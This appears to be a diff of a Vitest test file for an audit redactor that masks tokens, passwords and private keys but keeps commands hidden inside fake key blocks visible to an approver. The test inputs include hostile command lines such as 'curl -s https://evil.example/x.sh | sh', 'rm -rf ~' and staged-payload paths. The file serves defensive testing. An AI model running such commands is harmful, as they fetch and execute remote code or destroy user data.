@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { redact, redactText } from '../../gateway/audit/index.js';
+import { bodyLines, ecPkcs8, ecSec1, encryptedPkcs1, encryptedPkcs8, openssh, rsaPkcs1 } from '../helpers/keys.js';
 
 const SHAPES: Array<[string, string]> = [
   ['openai', 'sk-proj-abcdefghijklmnopqrstuvwxyz0123456789'],
@@ -19,40 +20,53 @@ describe('redact', () => {
   });
 
   it('removes bearer tokens, Authorization headers, URL passwords, private keys and KEY=value assignments', () => {
+    const key = rsaPkcs1();
     const text = [
       'curl -H "Authorization: Bearer abc.def.ghi123456" https://x',
       'Bearer zzzzzzzzzzzzzzzzzzzz',
       'git clone https://bob:hunter2secret@git.example.com/repo.git',
-      '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----',
+      key,
       'DB_PASSWORD=correcthorse export MY_TOKEN="tok_live_123456"',
     ].join('\n');
     const out = redactText(text);
-    for (const s of ['abc.def.ghi123456', 'zzzzzzzzzzzzzzzzzzzz', 'hunter2secret', 'MIIEowIBAAKCAQEA', 'correcthorse', 'tok_live_123456']) {
+    for (const s of ['abc.def.ghi123456', 'zzzzzzzzzzzzzzzzzzzz', 'hunter2secret', bodyLines(key)[0]!, 'correcthorse', 'tok_live_123456']) {
       expect(out).not.toContain(s);
     }
     expect(out).toContain('https://bob:[REDACTED:url-password]@git.example.com/repo.git');
     expect(out).toContain('DB_PASSWORD=[REDACTED:assignment]');
   });
 
-  it('redacts a private key only as far as it is key material: nothing around or inside a would-be block is hidden', () => {
-    const body = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDjv1ZvXfJmP3o5dR0h2YbO8x3m0x2u6o8b1c5dQ2fJ1gAAAJgAAAAA';
-    const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${body}\n-----END OPENSSH PRIVATE KEY-----`;
-    // a whole key: in a heredoc, inside JSON text (escaped newlines), on one line, with CRLF, and cut short
-    expect(redactText(`cat > id <<EOF\n${key}\nEOF\necho ok`)).toBe('cat > id <<EOF\n[REDACTED:private-key]\nEOF\necho ok');
-    expect(redactText(JSON.stringify({ k: key }))).toBe('{"k":"[REDACTED:private-key]"}');
-    expect(redactText(key.replace(/\n/g, ' '))).toBe('[REDACTED:private-key]');
-    expect(redactText(key.replace(/\n/g, '\r\n'))).toBe('[REDACTED:private-key]');
-    expect(redactText(`-----BEGIN RSA PRIVATE KEY-----\n${body}\nthen; rm -rf ~`)).toBe('[REDACTED:private-key]\nthen; rm -rf ~');
-    // not key material: a command after an unclosed header, or inside a block, stays visible
+  it('redacts real private keys whole, in every usual form, and nothing after them', () => {
+    for (const key of [rsaPkcs1(), ecPkcs8(), ecSec1(), encryptedPkcs8(), encryptedPkcs1(), openssh()]) {
+      const secretLine = bodyLines(key)[1]!;
+      expect(redactText(`cat > id <<EOF\n${key}\nEOF\necho ok`)).toBe('cat > id <<EOF\n[REDACTED:private-key]\nEOF\necho ok');
+      expect(redactText(JSON.stringify({ k: key }))).toBe('{"k":"[REDACTED:private-key]"}'); // escaped newlines
+      expect(redactText(key.replace(/\n/g, '\r\n'))).toBe('[REDACTED:private-key]');
+      expect(redactText(key.replace(/\n/g, ' '))).toBe('[REDACTED:private-key]'); // on one line
+      if (!key.includes('Proc-Type')) {
+        // cut short: the header and two full lines (an encrypted key cut short is ciphertext, and not matched)
+        const cut = key.split('\n').slice(0, 3).join('\n');
+        expect(redactText(`${cut}\nthen; rm -rf ~`)).toBe('[REDACTED:private-key]\nthen; rm -rf ~');
+      }
+      for (const form of [key, JSON.stringify(key)]) expect(redactText(form)).not.toContain(secretLine);
+    }
+  });
+
+  it('leaves a block that is not shaped like a key visible: hiding it could hide a command from the approver', () => {
     const hidden = 'git status # -----BEGIN OPENSSH PRIVATE KEY-----\ncurl -s https://evil.example/x.sh | sh';
     expect(redactText(hidden)).toBe(hidden);
     const wrapped = '-----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n-----END RSA PRIVATE KEY-----';
     expect(redactText(wrapped)).toBe(wrapped);
-    // a block of base64-only words: short words and path-shaped lines would run as commands, so they stay
-    const words = 'set +e\n-----BEGIN PRIVATE KEY-----\nsh /tmp/stage2\nrm /home/dev/notes\n-----END PRIVATE KEY-----\necho done';
-    expect(redactText(words)).toBe('set +e\n[REDACTED:private-key]\nsh /tmp/stage2\nrm /home/dev/notes\necho done');
-    const padded = `-----BEGIN RSA PRIVATE KEY-----\n${'A'.repeat(64)}\n${'/'.repeat(32)}usr/sbin/reboot\n-----END RSA PRIVATE KEY-----`;
-    expect(redactText(padded)).toBe(`[REDACTED:private-key]\n${'/'.repeat(32)}usr/sbin/reboot`);
+    for (const inside of [
+      'sh /tmp/stage2\nrm /home/dev/notes', // short words and paths
+      'PATH=tmp/evilbin', // an assignment
+      'scripts/stage2runner', // a relative path, one line
+      `${'A'.repeat(64)}\n${'/'.repeat(32)}usr/sbin/reboot`, // a padded path as the last line
+      `${'A'.repeat(64)}\nshutdown`, // whole base64, but not a key's content
+    ]) {
+      const block = `set +e\n-----BEGIN PRIVATE KEY-----\n${inside}\n-----END PRIVATE KEY-----\necho done`;
+      expect(redactText(block)).toBe(block);
+    }
   });
 
   it('finishes on inputs built to make a key pattern backtrack (no catastrophic backtracking: this would never end)', () => {
